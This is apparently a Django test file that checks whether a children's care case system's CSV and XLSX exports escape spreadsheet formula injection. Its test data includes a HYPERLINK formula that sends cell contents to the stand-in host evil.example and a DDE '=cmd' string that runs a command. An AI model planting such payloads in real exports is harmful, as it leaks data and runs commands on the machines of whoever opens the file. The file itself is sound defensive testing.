"""Spreadsheet formula injection: typed text never reaches an export as a formula (OWASP)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iro.exports import escape_cell, xlsx_bytes
from tests.iro.factories import AllocationFactory, ChildFactory
from tests.protection.factories import plan_from_icpc
from tests.reviews.factories import at, booked_review
from tests.reviews.test_schedule import monday

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "typed, expected",
    [
        ("=1+2", "'=1+2"),
        ("+44 121", "'+44 121"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("Jamie", "Jamie"),
        ("O'Neil = friend", "O'Neil = friend"),
        (None, ""),
        (7, 7),
        (date(2025, 1, 2), date(2025, 1, 2)),
    ],
)
def test_escape_cell(typed, expected):
    assert escape_cell(typed) == expected


def test_xlsx_text_cells_are_strings_never_formulas():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("S", [[PAYLOAD, 3]])]))).active
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "'" + PAYLOAD
    assert sheet["B1"].value == 3


def test_cp_plan_exports_escape_a_childs_name(login, team_manager, iro_allocated):
    child = ChildFactory(first_name=PAYLOAD, last_name="Smith", la_child_id="@C1")
    AllocationFactory(child=child, iro=iro_allocated)
    plan_from_icpc(child, iro_allocated, held_on=date(2025, 5, 1))
    client = login(team_manager)
    url = reverse("protection:plan_list")
    response = client.get(url, {"on": "2025-06-30", "export": "csv"})
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:2] == ["'@C1", f"'{PAYLOAD} Smith"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    response = client.get(url, {"on": "2025-06-30", "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet.cell(row=3, column=2)
    assert name.data_type == "s" and name.value == f"'{PAYLOAD} Smith"
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_schedule_csv_escapes_a_chairs_name(login, team_manager, iro_allocated):
    iro_allocated.first_name = "=cmd|' /C calc'!A0"
    iro_allocated.save()
    booked_review(chair=iro_allocated, starts_at=at(monday(), 10))
    response = login(team_manager).get(reverse("reviews:schedule_csv") + "?team=all")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2
    assert rows[1][3] == "'=cmd|' /C calc'!A0 Adeyemi"


# --- Reports and returns: every spreadsheet export goes through iro.exports ---------------------

SHORT = "=HYPERLINK(1)"  # fits a child's LA id (20 characters)


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(content: bytes) -> list:
    """Every cell of the workbook; fails if one is a formula or text that a spreadsheet runs."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r", "\n"))], texts
    return [c.value for c in cells]


def _csv_cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode())))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    return cells


@pytest.fixture
def report_figures():
    from reporting.figures import REGISTRY
    from tests.reporting.conftest import TEST_IDS, _register

    _register()
    yield
    for fid in TEST_IDS:
        REGISTRY.pop(fid, None)


def test_annual_report_exports_escape_a_childs_id(report_figures, performance_officer, login):
    from tests.iro.factories import CareEpisodeFactory

    child = ChildFactory(la_child_id=SHORT, first_name=PAYLOAD)
    CareEpisodeFactory(child=child, start=date(2024, 5, 1))
    client = login(performance_officer)
    values = _no_formulas(client.get(reverse("reporting:annual-xlsx", args=[2024])).content)
    assert "'" + SHORT in values and SHORT not in values
    # The CSV is the figures (one line per figure and breakdown cell): no record's text, and
    # no cell that a spreadsheet would read as a formula (_csv_cells checks every cell).
    cells = _csv_cells(client.get(reverse("reporting:annual-csv", args=[2024])).content)
    assert "TST-01" in cells and not [c for c in cells if "HYPERLINK" in c]


def test_scorecard_xlsx_escapes_a_figure_title(report_figures, performance_officer, login):
    from reporting import dashboard_data as dashboards
    from reporting.figures import REGISTRY

    REGISTRY["TST-01"].title = PAYLOAD  # a local title typed by someone
    try:
        original = dashboards.SCORECARD
        dashboards.SCORECARD = ["TST-01"]
        response = login(performance_officer).get(
            reverse("reporting:scorecard-xlsx"), {"end": "2025-03"}
        )
    finally:
        dashboards.SCORECARD = original
        REGISTRY["TST-01"].title = "Test starters"
    values = _no_formulas(response.content)
    assert "TST-01 " + PAYLOAD in values  # the id first: nothing for a spreadsheet to run


def test_snapshot_xlsx_escapes_the_managers_commentary(team_manager, board_member, login):
    from reporting.services import snapshot_publish

    snapshot = snapshot_publish(
        kind="dashboard",
        by=team_manager,
        as_at=date(2025, 3, 31),
        commentary={"children_in_care": PAYLOAD, "reviews": "-1 on last year"},
    )
    for user in (team_manager, board_member):
        response = login(user).get(reverse("reporting:snapshot-xlsx", args=[snapshot.pk]))
        values = _no_formulas(response.content)
        assert "'" + PAYLOAD in values and "'-1 on last year" in values
        assert "no-store" in response["Cache-Control"]


def test_annex_a_escapes_a_child_and_a_worker(performance_officer, iro_allocated, login):
    from tests.iro.factories import CareEpisodeFactory

    iro_allocated.first_name = PAYLOAD
    iro_allocated.save()
    child = ChildFactory(la_child_id=SHORT, first_name=PAYLOAD, date_of_birth=date(2012, 1, 1))
    CareEpisodeFactory(child=child, start=date(2024, 6, 1))
    AllocationFactory(child=child, iro=iro_allocated)
    response = login(performance_officer).get(
        reverse("reporting:returns-annex-a") + "?on=2025-03-31"
    )
    values = _no_formulas(response.content)
    assert "'" + SHORT in values
    assert any(isinstance(v, str) and v.startswith("'" + PAYLOAD) for v in values)
    assert "no-store" in response["Cache-Control"]
